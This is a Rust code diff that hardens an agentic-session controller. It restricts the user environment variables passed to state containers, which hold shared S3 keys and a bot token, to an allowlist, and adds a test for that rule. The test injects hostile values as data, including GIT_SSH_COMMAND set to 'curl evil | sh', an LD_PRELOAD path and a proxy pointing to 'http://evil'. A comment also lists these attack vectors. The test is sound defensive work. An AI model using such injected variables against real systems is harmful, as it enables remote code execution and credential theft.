@@ -103,6 +103,17 @@ fn plain(name: &str, value: String) -> EnvVar {
     }
 }
 
+/// The user variables the state scripts (`hydrate.sh`, `sync.sh`) read: the only ones of
+/// `spec.environmentVariables` the state containers get. The others (`GIT_*`, `BASH_ENV`,
+/// `LD_*`, `*_PROXY`, `AWS_*`, ...) could turn a script holding the shared S3 keys and the
+/// runner's token against them.
+pub const STATE_SCRIPT_VARIABLES: [&str; 4] = [
+    "RUNNER_STATE_DIR",
+    "SYNC_INTERVAL",
+    "MAX_SYNC_SIZE",
+    "REPO_BACKUP_INTERVAL",
+];
+
 /// The session's user variables that may be used at all (valid names, not reserved).
 fn user_env(session: &AgenticSession) -> impl Iterator<Item = (&String, &String)> {
     session
@@ -260,7 +271,10 @@ pub fn runner_env(inputs: &RunnerEnvInputs<'_>) -> ContainerEnv {
             spec.llm_settings.max_tokens.to_string(),
         ),
         (names::TIMEOUT, spec.timeout.to_string()),
-        (names::REPOS_JSON, json(serde_json::to_string(&spec.repos))),
+        (
+            names::REPOS_JSON,
+            json(serde_json::to_string(&spec.unique_repos())),
+        ),
         (names::USER_ID, user.user_id.unwrap_or_default()),
         (names::USER_NAME, user.display_name.unwrap_or_default()),
         (names::IS_RESUME, inputs.is_resume.to_string()),
@@ -407,7 +421,7 @@ pub fn state_env(
             values.insert(names::PROJECT_NAME.into(), namespace);
             values.insert(
                 names::REPOS_JSON.into(),
-                serde_json::to_string(&spec.repos).unwrap_or_else(|_| "[]".into()),
+                serde_json::to_string(&spec.unique_repos()).unwrap_or_else(|_| "[]".into()),
             );
             values.insert(
                 names::ACTIVE_WORKFLOW_GIT_URL.into(),
@@ -429,8 +443,12 @@ pub fn state_env(
             ));
         }
     }
-    // Then the user's env, and for the sidecar the runtime's, never overriding.
-    let mut extra: Vec<(&String, &String)> = user_env(session).collect();
+    // Then, never overriding, the user's variables the scripts read (nothing else of the
+    // user's reaches bash and git holding shared keys and BOT_TOKEN, SPEC §7.5), and for the
+    // sidecar the runtime's.
+    let mut extra: Vec<(&String, &String)> = user_env(session)
+        .filter(|(name, _)| STATE_SCRIPT_VARIABLES.contains(&name.as_str()))
+        .collect();
     if which == StateContainer::Sync {
         extra.extend(inputs.shape.env.iter());
     }
@@ -704,6 +722,46 @@ mod tests {
         sorted.sort();
         sorted.dedup();
         assert_eq!(names, sorted);
+    }
+
+    #[test]
+    fn state_containers_get_only_the_user_variables_their_scripts_read() {
+        let mut s = session("demo");
+        for (name, value) in [
+            ("REPO_BACKUP_INTERVAL", "10"),
+            ("GIT_SSH_COMMAND", "curl evil | sh"),
+            ("BASH_ENV", "/tmp/x"),
+            ("LD_PRELOAD", "/tmp/x.so"),
+            ("HTTPS_PROXY", "http://evil"),
+            ("MY_SETTING", "x"),
+        ] {
+            s.spec
+                .environment_variables
+                .insert(name.into(), value.into());
+        }
+        let shape = shape();
+        let platform = PlatformView::default();
+        let inputs = inputs(&s, &shape, &platform);
+        let s3 = PlatformView::default().s3("https://s3.amazonaws.com", "b");
+        for which in [StateContainer::Hydrate, StateContainer::Sync] {
+            let env = state_env(which, &inputs, &s3).env;
+            assert_eq!(value(&env, "REPO_BACKUP_INTERVAL"), Some("10"));
+            for refused in [
+                "GIT_SSH_COMMAND",
+                "BASH_ENV",
+                "LD_PRELOAD",
+                "HTTPS_PROXY",
+                "MY_SETTING",
+            ] {
+                assert!(env.iter().all(|e| e.name != refused), "{refused}");
+            }
+        }
+        let runner = env_of(&s, &PlatformView::default()).env;
+        assert_eq!(
+            value(&runner, "MY_SETTING"),
+            Some("x"),
+            "the runner gets them"
+        );
     }
 
     #[test]
